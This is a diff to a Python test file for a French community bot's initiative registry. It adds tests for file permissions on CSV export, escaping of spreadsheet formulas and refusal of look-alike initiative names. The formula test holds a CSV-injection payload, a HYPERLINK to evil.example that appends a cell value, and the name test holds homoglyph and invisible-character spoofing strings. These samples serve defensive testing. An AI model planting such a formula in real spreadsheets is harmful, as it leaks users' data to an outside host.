@@ -5,6 +5,7 @@ from __future__ import annotations
 import asyncio
 import csv
 import io
+import stat
 import subprocess
 import sys
 from pathlib import Path
@@ -131,12 +132,16 @@ url = "{bot.db.url}"
 [rooms]
 main = "!main:example.org"
 """, encoding="utf-8")
+    config.chmod(0o600)  # it holds a password
     out = tmp_path / "panorama.csv"
+    out.write_text("ancien", encoding="utf-8")
+    out.chmod(0o644)  # a file already there, readable by all: corrected before it is written
     done = await asyncio.to_thread(
         subprocess.run, [sys.executable, "-m", "bot.cli", "export", "initiatives", "--format",
                            "csv", "--config", str(config), "--output", str(out)],
                           capture_output=True, text=True, timeout=60)
     assert done.returncode == 0, done.stderr
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600
     rows = list(csv.reader(out.open(encoding="utf-8")))
     assert len(rows) == 4 and rows[1][1] in {"Centrale villageoise", "Compostage partagé",
                                               "Repair café du Briançonnais"}
@@ -145,3 +150,27 @@ main = "!main:example.org"
                                "--config", str(config), "-f", "md"],
                               capture_output=True, text=True, timeout=60)
     assert markdown.returncode == 0 and "## Énergie" in markdown.stdout
+
+
+async def test_formulas_in_an_initiative_are_text_in_the_csv(bot: Harness) -> None:
+    contact = '=HYPERLINK("https://evil.example/?c="&B2,"Écrire")'
+    await ask(bot, "!initiative ajouter +Jardin partagé --theme environnement --commune -Gap "
+                   f"--description @SOMME(1;2) --contact {contact}")
+    async with bot.db.transaction() as repos:
+        items = await repos.initiatives.listing()
+    [row] = list(csv.reader(io.StringIO(export_csv(items, Translator("fr")))))[1:]
+    assert row[1:6] == ["'+Jardin partagé", "environnement et biodiversité", "'-Gap", "'@SOMME(1;2)",
+                        "'" + contact]
+
+
+async def test_initiative_names_that_pass_for_another_are_refused(bot: Harness) -> None:
+    await ask(bot, REPAIR)
+    base = " --theme énergie --commune Gap"
+    reply = await refused(bot, "!initiative ajouter R\u0435pair café du Brian\u00e7onnais" + base)
+    assert "Le mot « R\u0435pair » mêle des lettres de plusieurs alphabets" in reply
+    reply = await refused(bot, "!initiative ajouter Repair\u200bcafé" + base)
+    assert "caractère invisible" in reply
+    reply = await refused(bot, "!initiative ajouter Repair café du Brianç0nnais" + base)
+    assert reply.startswith("« Repair café du Brianç0nnais » ressemble trop au nom de "
+                            "l'initiative n°1 Repair café du Briançonnais")
+    assert "n°2" in await ask(bot, "!initiative ajouter Île verte" + base)
